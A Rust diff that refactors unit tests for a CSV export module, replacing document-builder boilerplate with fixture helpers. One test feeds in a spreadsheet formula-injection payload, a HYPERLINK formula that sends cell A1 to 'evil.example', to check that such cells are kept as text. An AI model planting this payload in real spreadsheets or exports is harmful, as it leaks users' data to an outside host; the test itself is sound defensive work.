@@ -77,30 +77,21 @@ fn defuse_formula(f: String) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::document::{DocumentBuilder, Format, Metadata};
-    use crate::export::testutil::claim;
-    use crate::export::ArticleMeta;
-    use crate::model::{ClaimRecord, StatusDef};
+    use crate::document::Document;
+    use crate::export::fixture::{claim, text_document, CheckFixture};
+    use crate::model::ClaimRecord;
 
-    fn csv(doc: &crate::document::Document, claims: &[ClaimRecord], bom: bool) -> String {
-        let statuses = StatusDef::defaults();
-        let article = ArticleMeta::default();
-        let check = Check {
-            doc,
-            claims,
-            statuses: &statuses,
-            article: &article,
-            checker: None,
-            date: "",
+    fn csv(doc: &Document, claims: &[ClaimRecord], bom: bool) -> String {
+        let f = CheckFixture {
+            claims: claims.to_vec(),
+            ..CheckFixture::new(doc.clone())
         };
-        write(&check, bom)
+        write(&f.check(), bom)
     }
 
     #[test]
     fn quotes_fields_and_starts_with_a_bom_when_asked() {
-        let mut b = DocumentBuilder::new(Format::Text);
-        b.push_text("He said \"yes, 3,000\" today. Plain one.");
-        let doc = b.finish(Metadata::default(), String::new(), b"x");
+        let doc = text_document("He said \"yes, 3,000\" today. Plain one.");
         let mut c1 = claim(&doc, "c1", "He said \"yes, 3,000\" today.", "verified");
         c1.note = "line one\nline two".into();
         let claims = vec![c1, claim(&doc, "c2", "Plain one.", "unchecked")];
@@ -115,9 +106,8 @@ mod tests {
 
     #[test]
     fn a_cell_that_would_run_as_a_formula_is_kept_as_text() {
-        let mut b = DocumentBuilder::new(Format::Text);
-        b.push_text("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more. Fine text.");
-        let doc = b.finish(Metadata::default(), String::new(), b"x");
+        let doc =
+            text_document("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more. Fine text.");
         let mut c1 = claim(
             &doc,
             "c1",
